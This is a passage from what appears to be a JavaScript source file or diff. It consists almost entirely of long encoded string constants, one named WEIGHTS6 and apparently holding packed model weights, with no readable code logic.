1h&=m'<*f@Jg(jmCLrz}]YM$m$f{x&TA#vOp>@Y%Q(<8c=|L94eQBAmSD)t=$~LG]ZQc5d(J[u@NfdVIZ-Ov%D7rj^d?Ta_/P(,xgauAq7j|HL%9Ssco^K/'&]5^ps{Qtyx`#jgu~UM1]-[:wtB~#9qkz|Z|tp~g3B|g?()3.S<bx[,GqmT9zFaw}AX_L9tP]#WIor:.y>31Ko)gZqQg(#hBs9,kC-&aNEp9A~HoEUfP2}h}i}l@PSkjmfY,U=ft_PaDDkvZ]Q7g(xgg(%:cVm.G3>Zl{z<GqdaJS``]dgP-(iyu2DyfGQ[?+H=WxEV[/I7<|':u1(U5T$+If%wxE/ON/RPOhs?=S1=al8L<7Z(@op(HYgaWfUSllc<UO+a+HLAm.*iB__k_@[LH_6ke7y;%K4=lq6AyVst?Tc:kkX-X59cz)*_V}:j:tmgqK~[XK4nr`*XN~`Bz1xamfii82@+ke9m9=~}p6an.e'XZp6`L.pd]O#tTyAsck`q#HRm{#%mxrCr$[),e*q{(-;U`h]MVGYnH#iLUQGxYPloa)2SNn$7EgYZ4w&X^[W?b?{r]ytW$zXkA;mvbY#*X)dQT:$vJWSTOCJ;ub5ujt._]/9m#Lkj]OCnODT<UwGqWB%,*|IR?7Q&|/Igg.QkP+<m8iV4C]tD)Y:xjF0OznJZr|^4Ss=2@xO%SqBb+i3qLL/D,R9czQQ6a9n^oF4SH7gFVu22;2e,*7>$p=EVxY(/7Y_n2SwLc1#@MRpa7Cz2?*:qqg*}exR@F_VrkXKAs*4u517dSX9h{%$^oK4@L9Z(ULG8]6TU5}ERGG{a>BAPaDr/B_]s<rIkf]PS{|#36N)m<flCz&jM/?9l4j|@neQ4'T*z#7*]phe>e@)ID'LmHFx?$|=(I06N@PScUSsH7n@ttZD*mOD6ug3._+ZLE|Zkc7fxyYP%%s'fz`RoD1OM;blJkET]igtX.pY4M?~oDNO8WA]{EW^$[i)GfXO4&.QsB)GHK[/.|TV@tR;Dyo.B_DAIACa8RJKp[BFe/Nb?TQVx,WJQc9mgbY7$?ef-]9=X}sY.2CG2.nV4eKMr-VIb9j/Ye*mb=XW`_ua4n,Vu,p-rM;@snN]hq3@{DQt/5cAcS*2;Vz=WAc[nb/'bqDyl%M5/>B&A3k%XI[=6pP/*Q%n'e?2JB*Vf@8d~4w3g~>rYKs9n,kGR(]z7k(OD}-.*K3FyYr%4F;$zZj6[Bv?<pHtRG)DOJ{=bo0iU*}A&KdN/aQVlKm;rzYxL{s'et5exX,9=+gC<}KnI(,DIw's,A`&4.M*#kf<|NEp;jg>$e[3+:9g@}3h%UHGPa.+wS;Bo_%xV2utE2HbI+azCG}cl`8tDJl$r^Z5j^x.$QjFMEIyP>lA_r`.z8y>8bh&m,+3`#]cPd?GybEHigE&?MONP?a3&@&1lp&BlO>IM7&utS5IT*T$|,XLx_^.A$aT7+Eu]lfL~d9?LWME.t[HViOza.Aw3FS3/-W3[Cd'}hZOGf3#ZXX*BMA{qOOXUJzN6+,O.X,<Ru-mxmj~rs`zUVe'Z2q7r3O>Hzg/{TB-#w2RgxSsan5e~0oE#Pn[W=4i@bi'4Pi`i+e0`IO8c{75~%JQ}O/-`uEia?68@{U|~~lfZ5Ea#%gAQMaOv&gbXM-C'(t-whFj,qOYQ^&=G]X|DX-.:`d4bpWbrR?]]iC+tP=<k)tsErwT.{@>Ka16Gr%Ql$z}(z[h0Mojq?|YEjPg},Cnz0)sul//2gd_8x`Y&#3mx04m(@D^tWklP})kw%&Mgns@04%ZS#<;RjQXL8PD3VNuJtP1&7WfA?5BjljXD%g`dN~q@qxOYuxun,NMSm^-/{y?ctSFbewg<X:3nY'u=El{}6(_FlYjQZBW0qojYK]vT=lqJwm9uK.$~da<YkO+:~_=8,M7ryUUJA1l9a;NZY$OT%`q@urQIHTmppsqh8$sU0LmJXJ%1c$m#XvNtvXCXCk4]npU19ns;9H^q+kB{'J[5P*xt3b/,:*40h]4UYF{[:S2MfHE['LHj(+3fdx;8YbKE?h9=xxpYx7bA'tom^AlJq.7/p9AtX=:0;d%BV%evV4tmBSqc4=R_n*y}TqFtk3xtxW<VMWrvB&JCaQJYQ}|(zr-P7+[DN<LZS:hKmysq=Q5BHE)p$BG@CJVh//l4}V{Ok/>L[(Y(jWEH)g5pEig'QWkw,m2-~oCnoN.yP7DOB.9B7(K1i^oGamSnuCn4s7RPFsbKK8|1R(|m@0K0jk}bG`Jylco<`3ynC%08pr:E5{h1XJne-.YphRBSt0+-(mBG}`44+/$ku@?~~7'aKw1,Qg>&-VaR6L2dID9+&5Yg`'l.VujSM5O`>dTEqTW7rp31(1LIVxP1m0t<}10R`^'h[kE9TE`msociN?%#bA@.*'R*#jS6}fXY'6xc(#d7?5>zAW)DW/a);$7)2TOt*CzW/X65<1uJRHfj}[}/2c.NJt>t44Ya&93])e{ySU^_F<f,h]n_Ep++ux/~kYe{gbUD0HF|S1p=pwxf_H<eHGc%c,ODlEz]/8EvQ^q`1Lg,7)RoCc<QCt<C_:3PTwDXH^Qojt7z%`*KfYn|CoU@aN@U,sFg.^h~bP{P%X_zJ7y>bhX$dO9WRpos|sn71rCPTZXwg.cePs:-QCfTku-@?@,~q`L@c-Fh(_%*99w,y'ipK`37iO;d+,^c>/*jv=E$'nSj|R?AG5pQ|q>xP[62M@8j'IcI4A)o}mnBUXPzg'GcC0w[E#bDMqm5'=m)HxrPQ>_*j#OM;%.]nysgf&d@C&B@IFH*0?&v:4w9os*<p_-`^BtA[(uh-/^_aordho5K<jv#}?K{s4w#=ik-<u~:;W:cM#Ry;-R>oq&F:fQ'?G_XFL#NV&hgx>8)?axq^|C*:g/*gT*HpY_QHq)n{P%psPXm2aY7I`}[^5'nT>3ruLQ6?C}$z=QB%{8agrIEEtEDlSbnK?os|u.?b8rp(/I(FT8hIVFYVK$oaW.nbiA3/fq3FiFXMC2TRLwox&VV%7%EmA#6UMp)UxWTv?y<_K,NEbEUeao/^_D7,H^IrkY%=R/+3fL'l^Q6Z-S34c^+/b3*(_x8S7[a`bX3yzm9)hsUL`9]a2_R()hb5PSw5#%QRNoJEOEvL~?U0~gJ#JTrX(~55IS`%lR|H`>s|ikY43#ereu8?aQ52Vu[<Wr(1|QF]gl7iZ?Y/z4)=1>cKeV1>`db)m]vNhL`..<pp`p?xo1S[1's)`t*zAI~Xv>6Ry,x+:~iJvWJJy>P)`MZ41e_guT1rOAoyz993icwgp1Kf^8rPt*S-MFqN[c2'MW|v4_`P]$fu>r^kwRec-1=bjNgvFP}jR;~{2Wy]4o0ECE6cyOp/P#=>XMFwXcfO/h}Q2#^.*uHZey~_~q6}#^i,wo[nN2#sGMuc(N)40MVkxYgC-q.ArN?Gnr^:Dq]bJGcCD}8Ps5#~|5pIi@((G@?[WR%oR9rKPS|;BCu3>{7zHi+cw6hrmW:ckuCE=`LRo156LJzQ1'K9r$=hn<TD0(ZI|+46/=:DhkK0YaC;rd<bgxP2dnsCkkli-43*&4)fK1Ed{%FR-o9YYiH$8fo5zN(?<.+4s3tijPo(7`Ilkw)~p_-KN3pkeoP4.C?b1IIlNz-u-Hdw69F[U|@3SyueKjIF#~,$Ark?gCG*o-tW*tg*j0M}QN(q8pQS;ID*g_B{#JCA-bpW#:8lU'uG4M5*{t|O+b0t7/8TrpFgWB(<_CR$`+I&|t-p>GO,.-~Us|q'j*=QH'Xc;1~@/+kI^W=t`n)&i$|xr5m'_5hVg#KTJ#l%o-7>.brOd(*~*wVF,IU@ti$_XK^,f5{qjlU]jAmba3<&WhaU{{n=$yT+Pf@mu^EJq&6#J{Ir_eH,gOSW*}~@U*#%(9goU(E=X8dmOG`tM,G$/0w,$yq8^xmlUrm<iDM3M3>0=[D2cXPE-2_>zb[.,B.R&~4'uRg[@IcL4}59NSRl;zXF`]hw0RbeUR['A1:0|E+}9=h~0OqpHjPl%ja0~t'z^#K-0v4aC[{8)A33to>}dBkBZnLw*Ec`ihld~81OwRCGGs:D<A*XuVj1Z'2*Foht+Fja`np.z.L|?C2mQ]A@zT#f@yYL3I$_W##N:<0.E`vI$+$ip&b-AZN@/G->Cb?H=Y[nau}l(>PX&>ond(O^s9LIbh4`JeuKdOh8;%F<^'vElSkVei&ikdtoJ}fQUkc9+#}4c-p>d'|Bz5g2WHb|&3m27kjCqkOo)~>Fd[Oumx}D(xz&hx}n{G#$JYyB?=*0,'EGSmUve=+.Qt]+?7nmow,Gq%hOi7cDl|ACd7;5Xm<iMw(B@3_vV*Aj&w}i{&=>$4S%[uc_nw6nG{ZKKp)8{dK44sUWpfHT)Wl,bup;h7vvJbLIRkP}S]brj6;164(nF0EE3mmRuL)KdSYn1je6xPdDHq|JM-ZYL`_KV]VWi-.?v9tO@M~u>k0Z1LM,z/_)e{.@zz1ln7T$fu{CJO<)pkW+#pH(`|LKat4:I=KPYtY|+sb{6ACS*,c&J`NG{zk-O7]/yle>?4)DuDr[H.=RMno^<Y|iLkH[AquW-eKkeJovQ6#IkD-;6wsSB_&hOFREDlAXS6NlWcPSAXnv|7QcY/nmicx}^Qj34>65]nkUa`md5;pefuK[{2BqGF)0`g9@q=m4wbuKayd9$A&/c:{OV8>deBIU~sm`*1~ypueaD{G<i#5Gb$/w#6Sg7_FUI[k.?T~4,hT%N6=.Koev-nd1mv'q,P*RXmIqlrEFdnr(W[rTpuXA?c-S74Zo0v'pPp}j~r2da8;X[_;UgZ>`=QW`)c:Vq1[~eP'4)7fzU<A.0ZXinD{b]0[qy+|`@HdPw-u{#+KVi:XdHja>Q%I2A4d{Hx|ab7_JUu:d<O/YHy-wCGA]$bgX|A2&~l-<Dp=DjmbiMK`p=a1R?ldp^1#@Q&]MWrbI6k,x&d%ziOQCeoO5YE(7@7)Xe1'9^BXVC3cM's?O'(Bh`RzGbbg4|?3H`ac`6ZA@9Y1?bxh<>>8)M:usXo[`gl]5%Nuty`:1trSGwxjyctv('%61w[s&3=lp9PcYC|,JtPTm*Km.yY(i=pj3oA{B9cCxa(Y)_lhlAnKF1&}c4BYUp;/uD5W@K.jW$>thjck&QIT/7DGq{*Ph?cF`g`39q#kWe9MT#;0Ks`Q8zX'BOlhY'~gh`*CXG&0m>ea8?:^s[At?FbI9U(u@k*ZR]gH`[k-Yc2@EC.Gh)>/%f#UmKglW]G&bx0'iVCam>~^8'f4]b:?451mQ;Y7-}j99##u7pDU4[/u]/L`X$Z2r3r]SClNOS%-X`'NFm[-1F>o>4pD{1W1s#j8Vf}%xJ#PsQdhYi:p@PiwVQh)~tY|z)OJcdau&i<y?a[AT[u<z.(fsq#7U`c0<z;By,}c*M[d0W/CBS=2YhZ8X.x^8Oz=6GR$cbAG#dEGkAbQsyG1:$q8_A%>K[|=B&;pZ#o`5zHCr*(x:tp@){fn3rLiXP~,'suET-<)4~_}LjlMTMr;(h+k[eL1[0%;K_?-*dE;2F&K~/O#{a=1';0}J8NyZb}GKU7Gkoe`j-YpY7J]3P{t4Z9M^RGr|@:6cDE+p{.NI'L<A[R+kc,3U0d{pJm7s*X:usnI[gp]@w>SeU(oR>6P4hhS=c7`Nr-qh706PqU*N$.K?CPtfaER3gvyB#8;gTshfnE7qu$T`T.jxA9iDJRX#re50a4`pb*cR%ZO~:{?W@r'@VGl~6vl-4#7}h^#l{F'(p}zZU9K&DS{ntQ_C?;[bMOJcLGiA*1PxQgRw~YhOx^<'}uKAeu?jh/a|niWYvEq9GZ^15??tswil1T{$5]/>U&k=qHnBrMn/Qb*yBAe5oTF/x@oFy1V~F&Kn;2Ouq8sJFh:J?4=fZ08Z`%>TIuoJex$+1;@[.;,##";
+const WEIGHTS6 = "#`,a:9.FetxUkg~b<cEVEEKt4^XHy]N%W}KYC<&mVNrqD[|:fV/?,T3wp'tC4@HV*}<{eK|N;fIPjsEt_[)t,GFu/P4}1+@laB)ZZ11,?bksN1N==i(;sEY;#V&V,izb_O.{XA-bbQw,H7sHNnx|rN&7LIobesNbH6axpNowB.H')=[}Mii<cni~O=?p[sAq<m>/+&yUV[;LJr#Ii(Cgt|yaO(.'{^:[+,fOq'TT#Q'P*{Avrs9@Y`cg1j`|)jqdpCD,-4n$H[GUl_XttRI3>nq6Hf,<#{F:83UBezoODfgY_zJ;<1:^5U7(JIv{NkBAiO>)BPgTeg@-n/:U|pXdRu&DT^<n+Sjm1Mu}~~~Cz3,NWgd47C(1E-2Djy9Yj[0:Qk{vYZhNfqVr4O>diLJO)L_n%P5X3qwNZ6^^as_.[%kT+3}Fn)ob=N:&K>uxlk*tBNFV$AumE:%<8QOQLWcXmrHVd4tFtBq{FXPrb}mN~Os;]SWY-Q^.C62]0UXq|1}_=v&k$WX%$;iP72tCNND$ng2qjrM&@Ng9z{KNs%z,be#/ramwPl8u<[oKEKPu?Y.zdkb8/u|N}`^UAj(K(L~WOJ([(]EIW;Lv@?On$JtfUW:zxxbLsbXuGZ9}O.Hrq>*g=oX2-mD3C45gZ#leWm8'I1+hP@#TD+]<hspfj(Bpo?pRhj<;KDDhp:B]$m^U$a4WIs>:,^OX{]2/idFzCd|U:@i'u`rc#kSGC,j>QKEHlw?,z:MD}6QS#8V44l+~1LQx{EvC;;>O>Bb:@ZF6'6P{@j/P1?RuDDbOVvJwN~eSYv9)gF5^*s'%v9,Oc(Ssws's%0qe{#<E,F~?Uvj+*+aRW%e/a/Ezrobz$i-gYrF[pQNWBUB=O'<oKboD/*tqdIcS~}P=YG$aw>Uhf4wS/vtl806m}bo%le^;~Z{qC5s*MoQ;=4x7fMf;73:WA?`|cNkor5_RAw0i/hiT=rt[v_+kr>^<WA6z%D;d_;WWGWdtD`iTNbGv0*IS<cF+k0cmWgwA}+&QP~[sS7C6bX,k*yBe8hkdqQKte9{Ow8Yi(McrnQH*5|iSO?pH,UWDS<l.Ub=f1[f{k?(6^&4^hW(0cD5+,NjN<:>JnHN3W>2nw*>Pn$RkR]OSx2%'eTdy2Qo_|W7/o=Kp_5_rbSveK9Z&WbnPWquFCD5&>(l55/b&CG)Gl_7%ncwf+xg-zQtL@*U|;z~Gw7A+v7C8%R8MBE(0cACl'nPWq?+OT.v2gCSr|#j#=+8x$cPMj7fj,*Nq5BM?gA+C}K$r=gjGXQsB3~)iORWD##$A}+NzI4u$w'2mqf}[dAgC*>,=$1$'3u?iO2b?u-#VU_Kwf5HFx)5H]d}MW55g~fd(S{>Lh=NX.FZWr(N3Pui^q.kZ}`/mE'`/eyn-+,ase[=j^7FT+:8,#v6A-Bt[tkL4uwwS(pm0R/b5e-vy%AucXBBbMfpomC3i7Q4kW}v$S2{Z_xc[mI,gShCm*r4%tI*)})-P`><=)hBw}ca],50W:m:`Atu0BjQ(+13LmD8R+4Z3_#/JMt<_qfFfhCnwV5wYS?O3T(b%de2s3Eb{tj*VM.RhO%144*b?F+h?^#&Q~SPG}4s0Y'T,J&#UUYN.AB'CW{bu}Xinnbpyv~(aiCGYepm0.d'wEP-r`lpFc`jd0C}rGyl|l<oOd^pZ4/2-`H5/G}@-XL^Ow3wckAW,|P0wC?)j|aT0e*~%EXdNST&bO}@5m;iNOqZYR'U`Zdc(#H69,Zbu5%}.F,<iol16qp,N|'n>/]({H@X$M,A_V|h5S0I5|Jh[@%etgG]c7GzB6.{+Ad#S*[y_nKoB*%9;a4T*KMvDy^)7cDb-Nq7<yk{#zb~ph=UMku3[~Dke*%vlUm:Wmv#S@eQw/bJx26d,*R]Ed`9fP?~/eGKJ_7{yLC<7rI1CoYo.v{+:fg}}_LJDIj->Tw<iZ8Pn>O6hJa=J.#=/G=Snw=KH5fLts,RUl`0/%<e0^dHcF/{F7BL]I(K_4-lWX[8q=%91~E+q5ET`??A+|VaKaJup8`n2da[o$T=r5RskRhirT1p}>2$BBHX9s*+:~seu[<38'H<k9^LQ)aNZ,vdSV=^qtNOWEj[9*Vm[bfb^$00ZtF+md9Pf0smMyRj]2)Mebx()C<n4&([mm&O}xtnIDN46,_d+S^'5k0i/rm}.Jcal^R?N_=q*KCnj;0q.={YDJkwVVGM;qai|M8*9%B86pc+4o*3QW_jZ[#u{B{tL))vdGSgn<P*eTsb-cTB?xo8V5yUdhq/V;=<_%MBqCoL4B%0[0$.oujxh,DDy:Is]h&H}J9qY_GB|3nJw8+Nox;=`#9:DV~Niw,M;R58PR#5i7PS'2dg48S%@2D9N=$+U>u@RtUe%VXsotb8VFEF0#qa7=o'nXgfZf;MFt;>A4+wv[Yd>lrOxg,jpj#pTS$H$[K=J|g)Ed2WPa1y'#.imkW3pJ0WmXyzuOHWh*IZzQ.#Vm7=Q(s_%ZSv2y&GM1c#lG~^=)yPayZq+Z`t9}wK/]D0j?k,X9ur]``6qs{'7DMv>]Sd~zSI%JX%O+DAzH8:SSp=Cm@;7h_2XtZPT8U3`)*|rstzW(J^$>J*~_;-24>f<<IBn`KZ1>y]'4qSDAFGp8-'~2[e7MLq@Y=i*;hO#9O}||rls<iB4Hnt7|A^Lxd^(J(K6SexZMRu`GFm_~<@BhMD|M4kkoc+T&5`)[{`J$jq{$<7*|XDuB,d|7QCOUAmjN>)f#h6(H&lQF}qmg(}FDvRW~q$y9JVMU_:?Gsd`=fjb(Q#i*1ewCVl;E1DykED;bWh3W@Ve;IH*,twqeTW`,8/@S~'T5~Pq(sZTzru,vel%&&hG;uhp-?ls-SQrW[=8Kys?9ex*Fpt5Fq_'y@'|uYw3~n)y|J/DVaiE+,{DV;3XGa:4nr1hM4qyFA$;kMY+{+TCxH0WZo#^w5HLDH{agPMcMKBFEDwz1Y7UF3I^[TW6e6eoG^O.|Aeq[^zB+lB@da:l`lY]:6$)Y)i_1cZ@:<C&@dn@Ovk'Zn#yai'oH'CtO,;k=ri>C%/cjpV-gGJhVBGR{KzQ<,_$P@`]{.tZ7|nADu`WHE3/4@%+HSF-zT([o>JzpYCN8d%(i>zyZoA^J=Hy,*Px6b$>3YCK6RVS1~(gu{dP<DW|8]|,@~Ok;+*lpyTc`q=rutv61`,h3'BZ@tTgWE0hau'I@Hm05y^wK(034#^W$M.BU|{%$,m6t1[n1%PJ5rz]?|t+j:''Ci;KJIBRsWM:G`E=JN/^Z,lG;V%G38`_{hdd<Kt>Pf<PF@C+Keh8:OC_oG*lL^ORwxmA},yk{/UIY|=/1rD#I=RWqOJ$cy<Mj`:Bo96)KP.p(AN^xLRw,?eG8SP_M/U2#z/[cz;Y9byXb7]4Q[giZ8uMc4L[W*R9mMgk[G#SG$Ra|g8`Lqf'$^AdWXx24.=N$cWkMci>qf8n)lgH>K/G.&lw/6g[uf-C'5x(%eX4z1V03~a7e+7x;GDMttJKhr1uq82#Ax/uxgy*yStnMqbcMhp*s$}J[C-=)6o-nDzUOLa&z}{D~ULXJdsLPuH@W=KKUI2fj/g$;|RljdR-SG2:1-I&llbcQ-UL1f6~0gX*zxs079+>7xb,sF:`:n8-$E*z&hW3(b@T`>~rEW~4m>.yV<iM||?{W/5ZA4q;1iK=QD6}{}d-=[DCsk5^~8kQC'vSA`4>s_@F],$;@'KhQiG>uHS+'r#UPO>L*7~46jX*N:9Hs*syE~OGri(O2#F}<)G{|R'#90y]]b%><q+_1c;DNx22-/x-RR74:ET4}8KKri^@Ty8fQhTqVnl7k2TcU;Plt5^QUUy$*uCTO}L/bNhhj;9X8R<y+Ij{33=rM6MVO}/L}d0PaH||qw8i'tF<Z.J5=/oW);G-Ui/|4hw?XH_%M99.z@yud7H$W||#2D=_+mv|VC9n32kmC7Zq;{hlquQb=*Ev>PT7pD*[;46=5;b*/{'zUA-a@Yr=WH@E*zE}DBRoMruJDhG<[aH.S&/v(5SM/tv0xt-Y3?o-`Yca4oLWDb}[kz0<ZZw;ns$Q2KhV|%NF8$>;<h?9-RKJuG4]jR3[+Ig:=M`7.BFt.KDkA[WNRnSAn^ce^[|]UYfQ]r4/F87Axk*dOC]0X>$<{(l^Fbb&.ame|3ypa;a2_Qy/o1k@Fo0v(=ectu3rSYyHR~W{q*o0cp%`r6%;P7Bsaj_T9;X~w63^/nj2aJp1;*I^.hP05kt',+RLL=Yf/SP+|re'=ikvloE{A_||QZt{}e*%^o$9)ENn|0zB}qzi[Dcb(6f,.yzQ%n(k%:&'K*r/T?mS`^aUG>n1LDym_/Nv(L/b3/u/qg0aiW%|~%[R7a>CG/7F_%_o5kmXX>gbws{Z;DoLN[<xrCIEy^a</&qakeqaE_.`/3KWW:xB.FrXC+G<cJmS4Q5b5ubd>I)lh@)0>c(6&2RQ|-t;NyZ:@,-)QWG%'S2$C1&'@ZLQSxu.M<m5=A:n:m+4JM_m0h800RI5|52m:),kzfU60_QzHs1==Twn:v9=9$hjT)?k<:VSs/lo)*l@/mkyKi4kEl}E3.-I)]}0_zRNL`863936w#s/ni$eSEM*K7pL]UkAOq5jrFKB(*$hhgZ3be/,&MbG<e3<,K_5mhXk^Yg?P]^S.-VVaA440]bRA,*T>UQdH$?Wtl9R&TE}@/cIw(q/guvDHK[bl{q$?TNG_LMc}h%&qLBujg6,.miuAea_Ca#R_v^'uvaD|Vdw4z0oher:3VWuCG&@]Q/NhQTD/KT+~J<{,1jhD2fI=N]}uc]h2=$iR>I-AG%Pd^=F,9Fm=U)*=g~pH^eP~ce*+waLtHDNenc4DS/v)+ZgBSV*.|_tsE&dLbPY._e3BS@DZ1YcPSTWlOuTR'61V>DA-]rqE|x2cP_TU&pa9TDplE=J]f9DcH.X7w9@ha+lE7We^V_?IY>A&SLCiq'kF=KPzdm:L+]}rRc,36KAE}[Dd>E~:qA0%za'q_.&L]jjw;U-h^F])|pvm_4ea=LSr8E1I:5#>4fe}ge27yV<m?PsUV4TiDRk|tFf%KrActZbFJoo]<aW4P0HR39uJUt|^4p<yGfV<Dl.1iC|vNm%N/[;c3$(X=LEf=eo,oYV?o[,4LiMh]c[2eu{:nv/z},7QkuM$NMg$td:R5EU+jxBl6XjQbyZw<gTZ8J0sW_c<ML:$D=zcxF{<['c4l|l8R+P*+51AV-Cc(Y+`8[`_<a}%2Wts;J1}dQDFVcP?j|zcc*}PIG*H5h'$P2lIr@QE9#noX$F.q'oSeF6g3ELRuSom3B5'<K,+TGV)-D%w9>foK4,aDG[e.=/c<v;r1_LQXi8Dt8,H(PY}z,OD&fo)_K}g`;W{vP>rav;1e&K#d);RYhkxZ)v)(RQnLzX?<EH:4%,NLk(7QMZKxyfGjjdLEhlK#q=y=K?LX%{%G_M5jp%dW`1?I59DL^&K9V8sj&$_Zqxwrz,<B]ThxGIIb[;C?$xWcfHBX?Zs&sB]&w-62Bi9t$a'P{^^?v(kXx93LGt~T[}k%AGT;fW{0brL9a~M:Z83)4A[=K_|ENE(JS]wA(vkWGIe@;V[0o/XNu1g1YPY$ioLYg-Gb&zCX%Y`hEWr4hgTpp`:(Wg[$9YkbrW@R{nTTge+e,}41.KRzwWZc7LFO;3~Ee'e4561T:9wixfFH`r+2u24Ug-+RFF7iezgEIxhqvQ$82>UoyYf.4x3uksjQXuh%s*r..t%Uhfq)0J`rlTQj}[4>hz:~2r3G6cR-?=k@q6#7TU27Rt88F*rZjXw_k2Hr.;#TC<X(C(Z}P:VJdgDy48PBj(#6^^qx6d}L_]lY^aPr~'HK,/@b#[aeD5c<V?Y94jhY)ZXglipfBQWVR2kfW+a<~$o0sD_~I{<YeWOMSUKuqXOE;VN=,QUe~7}rh}-Qw2FVA>$.JRo,86q>1'-%Lz^})q,mbrTp~o`~/VP*Z~*^zHfMI+Gz[V8#=V+IjY-LN#WW88~'{UqX3OrxH~RU:OQ$%n8)F{..j@,OpFLA*T[@t-Wo9.QK?}5]n;oS1]8*+Vox.@}GQZF4)Hy#V-#FDZ3QFQFb6%/Lf>>TV?ze]Tc)7Zyub1//[{qN{LA:rHFFk9?`DV+`c3H%?#XaNg-$'D4DYZl.~aR}.=<fL*:lx$bdp&$Ge'S?10`zh|qm}GFrq='#)T9RhC/aaTQ547bx|QZ^nI8]8v;;9`7ea[xr:00,7~&_Z~tjtCR{D~`~Z?jKFhdM*K{[M(nSmY/6hk)4%G%?+5A_~D$lP{e)k9u:}KI?or91Tc,v9(DdtN5M^X/ANuC|M|2-WTW;`teIj_;PNaxa1=ei2FeTWkuJB|DEsC_(~8GtB#[Ky_@5a3OrM_LDH4y|f3c'ux]Z}P'smgZI&+z8U358o}Vux]xS)/|2~H9{v4[``ax0&DtZWA6nn-PXpWA1jn9B{pAk9@#3~fPI`CHP@CMF{kP|aau}D|C_RUJY'X8DkL?UFMZxYQwIGb|z|r?F_,~,kU[(8QUK_vlTsD?Cr?pz@s2)/jUng(V42]H*&km'n}x1G'q274:>Ye9Av,L>UZ?%%O85iHxUeh15nl*dfDls)3}g]PlD`g2q=,I2w#j6||4^]>=}g9EyzUO;^cb*x'XQOcH8J28x#X5L7SDp%~T>jx:1dWx'g8Ltt9C#qgvw7rVv6,E6Aql)r=9v@)UK6hnpvyy(v#cI{(Z8cv&F]&E`:psQ.;ot(sdN7l;r4I<y5q^DG#Vv@9f.ld#ux3AdcQUHw6;@P0^@PZkW*Vj-=-e=|<2%i0{F)&byFSYji7#4'pRQtUcyrM~=yLH?}q7)A5qpPd5#hL2UN)v{$QP05U7U3HGKcPjbPU>_nNTFJa?UocltFq>-A2[p1waq[}iE5S.jQPJOEk&yU5h.BMJoM$/A)vI&vCNs~fu'*fiePQ}-S[=/qwK#@Cc6~R_MnT2De&Y@1qB~ke*h.4Gbz`/-O#b.M)V<*+G`'<$wu)`DP>=yrcx=_b^F].K?N(PWaSl:6lR'4ZfX-9_'u=XSo@l|l:ew)JO{/d7I$3e@iZUk[sKpKmw8-rH?rejTNp{^XvPCw%4YO]<B'd-8hx*6NmB|K:0Ui@u8`j#:~Hv)IIJbW>(sFy)NfA*d7k@Kx{r^Wa--jD(g?7V(ONq&MO&1]H+G*uV4;_5X^6Psz$ekS^]ha]9(SdC]_pnHsW5Fle($}K%QUhaZY?ucUMY:FC',Q[FPn{z,D[?Dz_Cb{..L^_AxPLb]Y,7^T8=v;61I$YtJ{DkL@kJ,|6gl#u&ky~bkw]1pXg|IC~OF(IL<bifV.T[c5@VuL?&O&U>Ls*+6X`HAz>H,n-s,8BZ*?m0Rpq>k>cA$'/SlJ':9c?n8[-WIWI9XosN+9))6GKBeyc=%n(,#A='@vQh?l3FNBqM]b;d:KPpIn4f'+t96ZVYRf`+kbX]t}eRm5`VoP4uq*qtU)Z;{;Y>3N*4@>CMxN._x)D&,DysQBzWyYuu>|l6i#jV%SK(/JEgFy<y:Y.C{mFPk[Z&]@Sqfca1G+cU~Ux^c^$iI&Jj5U?rYEEMAz}.pr>Os3VuF~_8#gne<Kus$iV)@kQz)):xp}K:GoI<=R4p%{PjQu}&,seWu&(5QY={R6D3O+'U7MT%)voJ}0AhJeMlaxyT>[vA3q;X#8J'40yky;B{$c[*@V<|B5bTH.>c'J23|LKrDn'qh9Y3+/wg+c[d6~^~qNUI.y$ttjJ(e)u&48(}5)GR$4hIvGNugrZMV*1I>#,TLe?OII8ya:S[vZsl3FNK*ehw2:/&5|:vB<3,_W[%$;X)-,A{t;Z/8mZqM}[lnzjG#%vx}GJA_D/3N@4W>|1N?U#ry,%NY$%j:8l@((AIhQlYUdBSxp6qS94b+YB*l4}#6gB;+c35Hizbu#lgzoL$g#Fx3}h&MZw{A92rJzGp'o*kPk~d-v0G7=^d8Q2iVNo*?m<%7Vfsk=^h]eJ3dQmg.#}f8Tx*pn/rkRi`A=??MSq;_=q_8Q'Su~MIc5D87T5S},9Ax*[)p{#PLrPyj7DXwC=|<J@vlSZKpk7TM=4Z9cWA;H~8$__1k[9sHet#.r<%eSFHc-6q(Q{.tor8x/am>g%B^r>:`_=nX/Y_xeHBZ4(>:nUY8@3BA8@[U(U?@:$SycS?G.~~>VX0Y6LG{S^K910>`=$9qBNT=r]dN&Dn]lQ=|M}nvhh0slrZ(}il3/1oYddlJs]w|%f^~u_5|FU-^R33b3s<`e@N8#>@.{b6abG].}@o'M8ZPSzK[o[3'd[^;>Xhtf?BJL</=ZkOy*q7u@ki7/;EDtE*$KMe$9~Lt;5_]x%_>o1nyCGrw*[|H]{Vz(H}^_p+RGc>ucG76irSRd''7JXYxA>BnU{xK0%/HpJKV|aUl.lz`9Y&K1_Y%*?5',670(aBD'=IEtt##<12j+RVgFYLqhMLMnAe5UpL102a2Lt#3K`K*<fqy@C%mV#a}N2QF?Hc,7oxqIZB{Gg8162t-I7*ZHNcKd#EMJ@E1m2dQhX-V6I<OQjS|^+ag%2dDcl9|}%^#tyF0}Rm6X+]OjL0)#E06*pk/?.a'=1<z1~{AQ7e-d_.h]vvjDgy1yKJ-EX`LG632)*>ZrIV2;:8Uo2&QnbP%>jK+f.u0Y=)LX'IgXc2e7{8cSS7nAp)br2TE>1S1=[IOc&I1t<Ly4WDCKP4sC;4+l~C<8un5Sc7A,tJtZr50;i9EG)Lx4N5q*Y/qhsxghnf%O9o^hq$dCEaj{(BH+Z&M+[s/{Bl;X9BssfQ>^C=`R@55<].~DP(*BroL#jizS/8L-Se1QT4[JEh]]?[vxZ^FIIyxPs~Zi]VNUg^xpdf&Ped^G{`-6Jhz$kE1-2Dt/<*O;==rc|Fvow?{8,{9D+1*K$6.zHjo:-[s]5tq-X8#?mQkSsh7&DFvH6uf]JG1K9|6iqfKzb9KHBN-F^ejLr.#oCKJZPUj$x'a*YtlF{&a?@]{+(8OrqjWDu,(e)e]%2.Gx+UD[[&wU~$]l#vlleoQ+pC4q.C^^Vc/t5{)QF$d{/3-m3=X(xYuMjWAsh[b6)_=)OWj9@]g.F},e;@uvj.KrwDG{?;A4Ps:e>]QNbW>1vUhJkk^`HG[atO{KR^:+UZiQ`XNL7Mt38w)Owm^Z:vdl>-2#v+5LAv~W};8s+Rm/6>-M'gA-E>?ae+aL^g/C^ANI<&%:oa~t/|mva&xoN]x|08N}Bv7>.]vcars8}L<L,1Yv9CZ:3#